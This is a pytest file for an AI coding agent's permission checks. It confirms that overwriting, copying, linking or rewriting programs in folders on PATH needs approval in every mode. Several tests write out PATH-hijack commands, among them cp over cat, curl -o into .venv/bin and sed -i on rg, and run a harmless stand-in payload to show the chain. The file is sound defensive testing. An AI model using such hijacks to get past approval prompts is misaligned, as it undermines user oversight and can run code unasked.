"""Programs on PATH: overwriting ``.venv/bin/rg`` in the project would turn the next read-only
``rg`` into anything, so that write asks in every mode; the real Write tool and real bash show
the chain it stops."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

from jupyter_agent.core.orchestration import ToolUseRequest, run_tool_use
from jupyter_agent.core.registry import TOOL_TARGETS, load_tool
from jupyter_agent.permissions.bash import check_bash_permission
from jupyter_agent.permissions.path_programs import program_on_path
from tests.conftest import RecordingApprover
from tests.permissions.conftest import verdict_name
from tests.permissions.tools import decide_bash, make_ctx

PAYLOAD = "#!/bin/sh\necho PAYLOAD-RAN\n"


@pytest.fixture
def project(tmp_path, monkeypatch):
    bin_dir = tmp_path / "proj" / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    rg = bin_dir / "rg"
    rg.write_text("#!/bin/sh\necho the real rg\n")
    rg.chmod(0o755)
    (bin_dir / "notes.txt").write_text("not a program\n")
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}/usr/bin{os.pathsep}/bin")
    return tmp_path / "proj"


async def _write(project, mode, name, approver):
    """Read (an existing file must be read before it is overwritten), then Write."""
    ctx = make_ctx(project, mode=mode, tools=tuple(load_tool(TOOL_TARGETS[n]) for n in ("Read", "Write")))
    path = str(project / name)
    if os.path.exists(path):
        read = await run_tool_use(ToolUseRequest("r", "Read", {"file_path": path}), ctx, RecordingApprover())
        assert not read.is_error, read.text
    request = ToolUseRequest("w", "Write", {"file_path": path, "content": PAYLOAD})
    return await run_tool_use(request, ctx, approver)


@pytest.mark.parametrize("mode", ["acceptEdits", "bypassPermissions", "default"])
async def test_overwriting_a_program_on_path_asks_in_every_mode(project, mode, reject):
    outcome = await _write(project, mode, ".venv/bin/rg", reject)
    assert [name for name, _ask in reject.asks] == ["Write"]
    assert "folder on PATH" in reject.asks[0][1].message
    assert outcome.is_error and "the real rg" in (project / ".venv/bin/rg").read_text()


@pytest.mark.parametrize("name", [".venv/bin/new-tool", ".venv/bin/notes.txt", "src.py"])
async def test_other_files_there_are_ordinary_edits(project, name, reject):
    outcome = await _write(project, "acceptEdits", name, reject)
    assert reject.asks == [] and not outcome.is_error, outcome.text
    assert not os.access(project / name, os.X_OK)  # a new file cannot be run from PATH


async def test_the_chain_it_stops(project, approve):
    """Approved anyway, the rewrite keeps the mode and the next read-only `rg` runs the payload:
    which is why the write itself must be the question."""
    assert verdict_name(check_bash_permission("rg foo", make_ctx(project))) == "allow"
    await _write(project, "acceptEdits", ".venv/bin/rg", approve)
    assert len(approve.asks) == 1
    ran = subprocess.run(["bash", "-c", "rg foo"], cwd=project, capture_output=True, text=True,
                         env={"PATH": os.environ["PATH"]}, timeout=10)
    assert "PAYLOAD-RAN" in ran.stdout


def test_bash_redirects_into_a_program_ask(project):
    ctx = make_ctx(project, mode="acceptEdits")
    assert verdict_name(check_bash_permission("echo x > .venv/bin/rg", ctx)) == "ask"
    assert verdict_name(check_bash_permission("echo x > .venv/bin/notes.txt", ctx)) == "allow"


def test_a_relative_path_entry_makes_every_executable_a_program(tmp_path):
    script = tmp_path / "run.sh"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    assert program_on_path(str(script), f"/usr/bin{os.pathsep}.") is not None
    assert program_on_path(str(script), f"/usr/bin{os.pathsep}") is not None  # "" is the cwd too
    assert program_on_path(str(script), "/usr/bin:/bin") is None
    assert program_on_path(str(tmp_path / "missing"), ".") is None


COPIES = ["cp run.sh .venv/bin/cat", "mv run.sh .venv/bin/head", "cp -p run.sh .venv/bin/", "install run.sh .venv/bin/wc",
          "ln -s ../../run.sh .venv/bin/ls", "rsync run.sh .venv/bin/cat", "cp run.sh x && mv x .venv/bin/grep"]
COPIERS = tuple(f"Bash({p}:*)" for p in ("cp", "mv", "install", "ln", "rsync"))


def _script(project):
    script = project / "run.sh"
    script.write_text(PAYLOAD)
    script.chmod(0o755)
    return script


@pytest.mark.parametrize("command", COPIES)
def test_a_copy_into_a_folder_on_path_asks_in_every_mode(project, command):
    """A copy keeps its source's executable bit: `cp run.sh .venv/bin/cat` makes the next
    read-only `cat` run run.sh.  It asks under acceptEdits, bypassPermissions and a rule that
    allows the program (a new file made by Write or `>` is not executable: see above)."""
    _script(project)
    for ctx in (make_ctx(project, mode="acceptEdits"), make_ctx(project, mode="bypassPermissions"),
                make_ctx(project, allow=COPIERS)):
        verdict = check_bash_permission(command, ctx)
        assert verdict_name(verdict) == "ask", (command, verdict)
        assert "folder on PATH" in verdict.message


def test_copies_elsewhere_stay_ordinary(project):
    _script(project)
    (project / "scripts").mkdir()
    ctx = make_ctx(project, mode="acceptEdits")
    for command in ("cp run.sh scripts/", "mv run.sh scripts/build.sh", "cp .venv/bin/notes.txt notes.txt"):
        assert verdict_name(check_bash_permission(command, ctx)) == "allow", command


def test_the_copy_chain_it_stops(project):
    """Run anyway, the copy is executable and the next read-only `cat` runs the payload."""
    _script(project)
    assert verdict_name(check_bash_permission("cat notes.txt", make_ctx(project))) == "allow"
    env = {"PATH": os.environ["PATH"]}
    subprocess.run(["bash", "-c", "cp run.sh .venv/bin/cat"], cwd=project, check=True, env=env, timeout=10)
    ran = subprocess.run(["bash", "-c", "cat notes.txt"], cwd=project, capture_output=True, text=True, env=env,
                         timeout=10)
    assert "PAYLOAD-RAN" in ran.stdout


@pytest.mark.parametrize("command", ["tee .venv/bin/rg < notes.txt", "sed -i s/real/fake/ .venv/bin/rg",
                                     "dd if=notes.txt of=.venv/bin/rg", "perl -pi -e s/real/fake/ .venv/bin/rg",
                                     "sort -o .venv/bin/rg notes.txt", "sed -n 'w .venv/bin/rg' notes.txt",
                                     "curl -o .venv/bin/rg https://example.com/x", "chmod +x .venv/bin/notes.txt"])
def test_a_program_rewritten_in_place_asks_under_a_rule(project, command):
    """A rule that allows the writing program (`Bash(sed:*)`) does not let it rewrite the
    program on PATH (it keeps its mode) or make a file there executable: as for a redirect."""
    (project / "notes.txt").write_text("notes\n")
    rules = tuple(f"Bash({p}:*)" for p in ("tee", "sed", "dd", "perl", "sort", "curl", "chmod"))
    for ctx in (make_ctx(project, allow=rules), make_ctx(project, mode="bypassPermissions")):
        verdict = check_bash_permission(command, ctx)
        assert verdict_name(verdict) == "ask" and "folder on PATH" in verdict.message, (command, verdict)
    assert verdict_name(check_bash_permission(command.replace(".venv/bin/", "out/"), make_ctx(project, allow=rules))) \
        == "allow"


@pytest.fixture
def linked(tmp_path, monkeypatch):
    """A folder on PATH whose `tool` links to an executable in a folder that is not on PATH (as
    `.venv/bin/python3` links to the interpreter it was made from), both in the project."""
    bin_dir, elsewhere = tmp_path / "proj" / "bin", tmp_path / "proj" / "interpreters" / "3.11" / "bin"
    bin_dir.mkdir(parents=True)
    elsewhere.mkdir(parents=True)
    real = elsewhere / "tool3.11"
    real.write_text("#!/bin/sh\necho the real tool\n")
    real.chmod(0o755)
    (bin_dir / "tool").symlink_to(real)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}/usr/bin{os.pathsep}/bin")
    return tmp_path / "proj"


@pytest.mark.parametrize("command", ["echo x > bin/tool", "cp /dev/null bin/tool", "sed -i s/real/fake/ bin/tool"])
async def test_a_write_through_a_link_on_path_to_a_program_elsewhere_asks(linked, command):
    """It used to be checked at the link's target only, which is not on PATH: allowed unasked."""
    ctx = make_ctx(linked, allow=("Bash(*)",), mode="bypassPermissions")
    assert verdict_name(await decide_bash(ctx, command)) == "ask"
    assert verdict_name(await decide_bash(ctx, command.replace("bin/tool", "interpreters/notes.txt"))) == "allow"


async def test_the_write_tool_through_such_a_link_asks(linked, reject):
    outcome = await _write(linked, "bypassPermissions", "bin/tool", reject)
    assert [name for name, _ask in reject.asks] == ["Write"] and outcome.is_error
    assert "the real tool" in (linked / "interpreters" / "3.11" / "bin" / "tool3.11").read_text()


def _program(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n")
    path.chmod(0o755)
    return str(path)


def test_versions_behind_shims_and_rustup_toolchains_count_as_on_path(tmp_path, monkeypatch):
    """`python` on PATH is pyenv's shim, which runs ~/.pyenv/versions/X/bin/python; cargo's proxies
    run ~/.rustup/toolchains/T/bin/rustc: rewriting those changes what the commands run."""
    pyenv = tmp_path / ".pyenv"
    (pyenv / "shims").mkdir(parents=True)
    python = _program(pyenv / "versions" / "3.11.7" / "bin" / "python3.11")
    rustc = _program(tmp_path / ".rustup" / "toolchains" / "stable" / "bin" / "rustc")
    other = _program(tmp_path / "opt" / "versions" / "1.0" / "bin" / "x")  # no shims beside it
    monkeypatch.setenv("PATH", f"/usr/bin{os.pathsep}/bin")
    assert program_on_path(python) is None  # pyenv's shims are not on PATH yet
    monkeypatch.setenv("PATH", f"{pyenv / 'shims'}{os.pathsep}/usr/bin")
    assert "folder of programs that commands on PATH run" in (program_on_path(python) or "")
    assert program_on_path(rustc) is not None
    assert program_on_path(other) is None
    assert program_on_path(python, "/usr/bin") is None  # an explicit PATH is taken as it is


def test_the_kernels_own_interpreter_counts_as_on_path(monkeypatch):
    """Jupyter starts the next kernel with it, whether or not its folder is on PATH."""
    monkeypatch.setenv("PATH", "/nonexistent")
    real = os.path.realpath(sys.executable)
    assert program_on_path(real, lexical=os.path.abspath(sys.executable)) is not None


@pytest.fixture
def cwd_first(tmp_path, monkeypatch):
    """PATH starting with an empty entry (``export PATH=$UNSET:$PATH`` leaves one): the folder a
    command runs in is searched first; the project holds an ``ls`` and a ``sub/cat`` of its own."""
    from jupyter_agent.permissions import path_programs

    project = tmp_path / "proj"
    for name in ("ls", "sub/cat"):
        _program(project / name)
    (project / "notes.txt").write_text("n\n")
    monkeypatch.setattr(path_programs, "_EXTRA_PATHS", [])
    monkeypatch.setenv("PATH", f"{os.pathsep}/usr/bin{os.pathsep}/bin")
    return project


@pytest.mark.parametrize("command", ["ls", "ls -la | head", "cd sub && cat notes.txt", 'cd "$D" && head notes.txt'])
async def test_a_read_only_command_found_in_a_relative_path_folder_needs_approval(cwd_first, command):
    verdict = await decide_bash(make_ctx(cwd_first, mode="default"), command)
    assert verdict_name(verdict) == "ask", command
    assert "PATH has a folder relative to where commands run" in verdict.message, verdict.message
    # a rule of its own allows it, as for any program (and bypassPermissions runs it)
    allowed = make_ctx(cwd_first, allow=("Bash(ls:*)", "Bash(cat:*)", "Bash(head:*)", "Bash(cd:*)"), mode="default")
    assert verdict_name(await decide_bash(allowed, command.replace(' "$D"', " sub"))) == "allow"


@pytest.mark.parametrize("command", ["cat notes.txt", "echo hi", "head notes.txt", "cd sub && ls"])
async def test_programs_found_in_fixed_folders_first_stay_read_only(cwd_first, monkeypatch, command):
    if command.endswith("ls"):  # a fixed folder before the relative one: /usr/bin/ls is found first
        monkeypatch.setenv("PATH", f"/usr/bin{os.pathsep}/bin{os.pathsep}.")
    assert verdict_name(await decide_bash(make_ctx(cwd_first, mode="default"), command)) == "allow", command


@pytest.mark.skipif(not os.path.exists("/bin/sh"), reason="needs a shell")
def test_bash_really_runs_the_working_folders_program_first(cwd_first):
    out = subprocess.run(["bash", "-c", "ls"], cwd=cwd_first, timeout=30, text=True, capture_output=True,
                         env={"PATH": os.environ["PATH"]})
    assert out.returncode == 0 and out.stdout == "", out  # the project's ls (an empty script), not /usr/bin/ls
